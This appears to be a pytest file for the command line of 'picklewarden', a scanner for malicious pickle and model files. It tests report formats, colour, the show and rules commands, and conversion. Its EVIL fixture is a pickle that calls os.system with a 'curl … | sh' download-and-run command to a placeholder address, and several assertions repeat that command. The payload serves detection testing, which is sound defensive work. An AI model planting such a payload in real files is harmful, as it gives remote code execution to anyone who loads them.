"""The command line around the renderers: formats, colour, show, rules, convert, and a fast --version."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

import picklewarden
from picklewarden.cli import main
from tests.asm import Asm

EVIL = Asm(2).global_("os", "system").text("curl http://203.0.113.9/p | sh").tuple1().reduce().stop().bytes()
GOOD = Asm(2).empty_dict().text("w").binint1(1).setitem().stop().bytes()


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.pkl").write_bytes(EVIL)
    (tmp_path / "good.pkl").write_bytes(GOOD)


def test_sarif_format(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", "evil.pkl", "good.pkl", "--format", "sarif"]) == 1
    log = json.loads(capsys.readouterr().out)
    assert log["version"] == "2.1.0"
    (result,) = log["runs"][0]["results"]
    assert result["ruleId"] == "PW100" and result["level"] == "error"
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "evil.pkl"
    assert result["locations"][0]["physicalLocation"]["region"]["byteOffset"] == EVIL.rindex(b"R")


def test_text_is_plain_unless_asked_and_never_in_files(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert main(["scan", "evil.pkl"]) == 1
    plain = capsys.readouterr()
    assert "\x1b[" not in plain.out and plain.err == ""  # no colour and no progress bar off a terminal
    assert "command: curl http://203.0.113.9/p | sh" in plain.out and "url: http://203.0.113.9/p" in plain.out
    assert main(["scan", "evil.pkl", "--color", "always"]) == 1
    assert "\x1b[" in capsys.readouterr().out
    assert main(["scan", "evil.pkl", "--color", "always", "-o", str(tmp_path / "r.txt")]) == 1
    written = (tmp_path / "r.txt").read_text()
    assert "MALICIOUS" in written and "\x1b[" not in written


def test_quiet(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", "good.pkl", "evil.pkl", "-q"]) == 1
    out = capsys.readouterr().out
    assert "evil.pkl: MALICIOUS" in out and "good.pkl: SAFE" not in out
    assert "scanned 2 file(s)" in out


def test_skip_non_models(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    (tmp_path / "notes.bin").write_bytes(b"\x00\x01 firmware blob, not a pickle")
    assert main(["scan", "notes.bin", "good.pkl"]) == 2
    assert main(["scan", "notes.bin", "good.pkl", "--skip-non-models"]) == 0
    assert "1 skipped" in capsys.readouterr().out.splitlines()[-1]


def test_show_highlights_flagged_lines(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["show", "evil.pkl"]) == 0
    lines = capsys.readouterr().out.splitlines()
    flagged = [line for line in lines if line.startswith("!!")]
    assert len(flagged) == 1 and "system('curl http://203.0.113.9/p | sh')  # PW100" in flagged[0]
    assert main(["show", "evil.pkl", "--color", "always"]) == 0
    assert "\x1b[" in capsys.readouterr().out


def test_show_globals_manifest(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["show", "--globals", "evil.pkl"]) == 0
    out = capsys.readouterr().out
    assert "os.system" in out and "process" in out
    assert "Loading this file imports from: os" in out


def test_rules_carry_help_and_explain_names_the_policy_rule(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules"]) == 0
    out = capsys.readouterr().out
    assert all(f"PW{n}" in out for n in (100, 108, 200, 201, 300, 310))
    assert "    The pickle reaches a callable that starts processes" in out
    assert main(["explain", "PW100"]) == 0
    assert "allow_dangerous" in capsys.readouterr().out
    assert main(["explain", "PW200"]) == 0
    assert "[severity] PW200" in capsys.readouterr().out


def test_version_does_not_import_rich_or_the_scanner() -> None:
    code = (
        "import sys\n"
        "from picklewarden.cli import main\n"
        "assert main(['--version']) == 0\n"
        "assert 'rich' not in sys.modules, 'rich imported'\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "picklewarden, version" in done.stdout


# What a JSON scan of a plain pickle or a torch checkpoint must not load: click (a plain scan line is read
# without it), the renderers with rich, the readers of other formats (tarfile: only for files whose first block
# may be a tar header), the web gateway and its command, what only some files need (ZIP bundles, joblib's
# pure-Python reading), the knowledge parts that only unusual names need, and typing, which only type checkers
# need (issue 16, start-up; picklewarden._typing).
_NOT_ON_THE_JSON_PATH = (
    "typing",
    "click",
    "rich",
    "tomllib",
    "picklewarden.containers.joblib_files",
    "picklewarden.containers.torchscript",
    "picklewarden.containers.numpy_files",
    "picklewarden.containers.compression",
    "picklewarden.formats.safetensors",
    "picklewarden.formats.gguf",
    "picklewarden.formats.onnx",
    "picklewarden.server.app",
    "picklewarden.server.serve",
    "tarfile",
    "picklewarden.containers.zip_lenient",
    "picklewarden.pickle.pymachine",
    "picklewarden.report.text",
    "picklewarden.report.sarif",
)


@pytest.mark.parametrize("kind", ["pickle", "torch-zip"])
def test_a_json_scan_loads_only_what_the_file_needs(kind: str, tmp_path: Path) -> None:
    if kind == "torch-zip":
        import torch

        torch.save({"w": torch.zeros(2)}, tmp_path / "tiny.pt")
        target = "tiny.pt"
    else:
        target = "good.pkl"
    code = (
        "import json, sys\n"
        "preloaded = set(sys.modules)\n"
        "from picklewarden.cli import main\n"
        "from picklewarden.knowledge.tables import ecosystem, generated\n"
        f"assert main(['scan', {target!r}, '--format', 'json', '--no-policy']) == 0\n"
        f"loaded = sorted(m for m in {_NOT_ON_THE_JSON_PATH!r} if m in sys.modules and m not in preloaded)\n"
        "parts = sorted(k for k in ('springboards', 'modules', 'failures') if k in vars(generated()))\n"
        "print(json.dumps([loaded, parts, ecosystem.cache_info().currsize]), file=sys.stderr)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["summary"]["verdict"] == "safe"
    loaded, parts, ecosystem_parsed = json.loads(done.stderr.strip().splitlines()[-1])
    assert loaded == [], f"imported on the JSON path: {loaded}"
    assert parts == [] and ecosystem_parsed == 0, "knowledge parts parsed that these globals never need"


def test_convert_delegates_to_the_library(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    calls: list[tuple[Any, ...]] = []

    def fake(src: str, dst: str, *, force: bool = False, policy: object = None) -> object:
        calls.append((src, dst, force, policy))
        if src == "evil.pkl":
            raise OSError("disk full")
        return SimpleNamespace(tensors=("w",), nbytes=4, skipped=(SimpleNamespace(name="opt", reason="an object"),))

    monkeypatch.setattr(picklewarden, "convert", fake, raising=False)
    Path("picklewarden.toml").write_text('trust = ["acme"]\n')
    assert main(["convert", "good.pkl", "out.safetensors", "--force"]) == 0
    out = capsys.readouterr().out
    assert "wrote out.safetensors: 1 tensor(s), 4 bytes" in out and "skipped opt: an object" in out
    src, dst, force, policy = calls[-1]
    assert (src, dst, force) == ("good.pkl", "out.safetensors", True)
    assert policy.trust == ("acme",)  # type: ignore[attr-defined]
    assert main(["convert", "evil.pkl", "out.safetensors"]) == 2
    assert "cannot convert evil.pkl: disk full" in capsys.readouterr().err


def test_convert_for_real(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["convert", "evil.pkl", "out.safetensors"]) == 1
    assert "refused" in capsys.readouterr().err
    assert not Path("out.safetensors").exists()


def test_convert_refusal_exits_1(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    errors = pytest.importorskip("picklewarden.extract.errors")

    def refuse(src: str, dst: str, *, force: bool = False, policy: object = None) -> None:
        raise errors.UnsafeModelError(picklewarden.scan_bytes(EVIL, path=src), "malicious")

    monkeypatch.setattr(picklewarden, "convert", refuse, raising=False)
    assert main(["convert", "evil.pkl", "out.safetensors"]) == 1
    assert "refused" in capsys.readouterr().err
